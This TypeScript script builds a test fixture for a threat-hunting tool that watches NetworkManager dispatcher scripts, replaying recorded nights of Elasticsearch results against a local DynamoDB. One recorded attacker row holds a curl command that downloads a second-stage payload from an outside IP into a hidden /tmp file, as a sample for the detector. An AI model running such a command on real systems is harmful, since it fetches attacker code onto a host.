/**
 * Writes test/fixtures/baseline-v1.jsonl: a baseline produced end to end by the code of its commit
 * (the nightly run, the DynamoDB store, the CLI's export), so that a later change of identities or
 * fingerprints can prove its migration against entries it did not write itself.
 *
 *   npx tsx scripts/write-baseline-v1-fixture.ts [output file]
 *
 * Nights 1 and 2 are the demo's recorded responses (learning, then the attacker on web-03).
 * An analyst approves two alerted entries (a red-team exercise) and one learned entry.
 * Night 3 adds one new row per hunt and its publish fails, so both stay pending.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { DynamoDbBaselineStore } from '../functions/adapters/dynamodb-baseline-store';
import { ElasticsearchHuntRunner, createElasticsearchClient } from '../functions/adapters/elasticsearch-hunt-runner';
import { runCli } from '../functions/cli/cli';
import type { BaselineEntry } from '../functions/core/baseline';
import { defaultHuntConfig } from '../functions/core/hunt-config';
import { buildHuntRequest } from '../functions/core/hunt-request';
import { HUNTS } from '../functions/core/hunts';
import { runNightlyHunt, type RunLog } from '../functions/core/nightly-run';
import type { Notifier } from '../functions/core/ports';
import { startElasticsearchStandIn } from '../functions/local/elasticsearch-stand-in';
import { startEmbeddedDynamoDb } from '../functions/local/embedded-dynamodb';

type QueryResponse = { columns: { name: string; type: string }[]; values: unknown[][] };
type Responses = Record<string, QueryResponse>;

const recorded = (night: string) => JSON.parse(readFileSync(new URL(`../functions/demo/fixtures/${night}.json`, import.meta.url), 'utf8')) as Responses;

/** Night 2 plus one new row per hunt: the attacker's script fetches a second stage; a known script gets a new writer. */
function nightThree(): Responses {
  const responses = recorded('night-2');
  const add = (huntId: string, row: Record<string, unknown>) => {
    const response = responses[huntId]!;
    response.values.push(response.columns.map((c) => row[c.name] ?? null));
  };
  const web03 = { host_names: 'web-03', agent_ids: '5f1c2a9e-6d3b-4e8f-9a7c-1b2d3e4f5a05' };
  add('dispatcher-child-process', {
    ...web03,
    event_count: 1,
    agent_count: 1,
    first_seen: '2026-11-26T00:41:09.118Z',
    last_seen: '2026-11-26T00:41:09.118Z',
    'process.parent.executable': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
    'process.executable': '/usr/bin/curl',
    'process.command_line': 'curl -fsSL http://203.0.113.66/s2 -o /tmp/.s2',
  });
  add('dispatcher-script-write', {
    agent_count: 1,
    event_count: 1,
    first_seen: '2026-11-25T22:03:51.790Z',
    last_seen: '2026-11-25T22:03:51.790Z',
    host_names: 'vpn-gw-01',
    agent_ids: '3f6b1c0e-2a41-4c55-9e0a-6b1f0c7d9a01',
    'file.path': '/etc/NetworkManager/dispatcher.d/99-vpn-routes',
    'process.executable': '/usr/bin/tee',
  });
  return responses;
}

const NIGHTS: { name: string; responses: Responses; publishFails: boolean }[] = [
  { name: 'night-1', responses: recorded('night-1'), publishFails: false },
  { name: 'night-2', responses: recorded('night-2'), publishFails: false },
  { name: 'night-3', responses: nightThree(), publishFails: true },
];
const FIRST_NIGHT = Date.parse('2026-11-24T02:00:00.000Z');
const DAY = 86_400_000;

const quiet: RunLog = { info: () => {}, warn: () => {}, error: () => {} };

async function main(output: string): Promise<void> {
  const config = defaultHuntConfig();
  let responses: Responses = {};
  const db = await startEmbeddedDynamoDb();
  const es = await startElasticsearchStandIn({
    majorVersion: 9,
    respond: ({ body }) => {
      const hunt = HUNTS.find((h) => buildHuntRequest(h, config).query === body.query);
      if (!hunt) return { status: 400, body: { error: { type: 'parsing_exception', reason: 'unknown query' }, status: 400 } };
      return { status: 200, body: { took: 12, is_partial: false, ...responses[hunt.id] } };
    },
  });
  try {
    const table = await db.createTable('nm-dispatcher-hunt-baseline-v1');
    const store = new DynamoDbBaselineStore(db.client, table);
    const runner = new ElasticsearchHuntRunner(createElasticsearchClient({ node: es.url, apiKey: 'Zml4dHVyZTpmaXh0dXJl' }), config);
    for (const [i, night] of NIGHTS.entries()) {
      responses = night.responses;
      const at = new Date(FIRST_NIGHT + i * DAY);
      const notifier: Notifier = {
        publish: async () => {
          if (night.publishFails) throw new Error('SNS Publish failed: InternalErrorException (recorded for the fixture)');
          return `00000000-0000-4000-8000-00000000000${i + 1}`;
        },
      };
      const summary = await runNightlyHunt({ hunts: HUNTS, runner, store, notifier, clock: () => at, log: quiet }, { runId: `baseline-v1-${night.name}` });
      process.stderr.write(`${night.name}: ${summary.outcome}; learned ${summary.totals.learned}, known ${summary.totals.known}, new ${summary.totals.new}\n`);
      if (night.name === 'night-2') await triage(store, new Date(at.getTime() + 9 * 3_600_000));
    }
    Object.assign(process.env, { AWS_REGION: 'us-east-1', AWS_ACCESS_KEY_ID: 'local', AWS_SECRET_ACCESS_KEY: 'local', AWS_ENDPOINT_URL_DYNAMODB: db.endpoint });
    const io = { out: process.stdout, err: process.stderr, env: {} };
    const code = await runCli(['baseline', 'export', output, '--table', table], io);
    if (code !== 0) throw new Error(`baseline export exited with ${code}`);
  } finally {
    await es.close();
    await db.close();
  }
}

/** The morning after night 2: the analyst recognises a red-team exercise and an admin's edit. */
async function triage(store: DynamoDbBaselineStore, at: Date): Promise<void> {
  const entries: BaselineEntry[] = [];
  for await (const entry of store.list()) entries.push(entry);
  const find = (status: string, field: string, value: string) => {
    const entry = entries.find((e) => e.status === status && e.identity[field] === value);
    if (!entry) throw new Error(`no ${status} entry with ${field} ${value}: the recorded responses changed`);
    return entry.fingerprint;
  };
  const exercise = 'Red-team exercise RT-2026-11 on web-03 (ticket SEC-4211); host reimaged';
  await store.approve(find('alerted', 'process.executable', '/usr/bin/setsid'), exercise, 'j.doe@example.com', at);
  await store.approve(find('alerted', 'process.executable', '/usr/bin/sed'), exercise, 'j.doe@example.com', at);
  await store.approve(find('learned', 'process.executable', '/usr/bin/vim.basic'), 'Admin edit under change CHG-1182', 'a.smith@example.com', at);
}

await main(process.argv[2] ?? fileURLToPath(new URL('../test/fixtures/baseline-v1.jsonl', import.meta.url)));
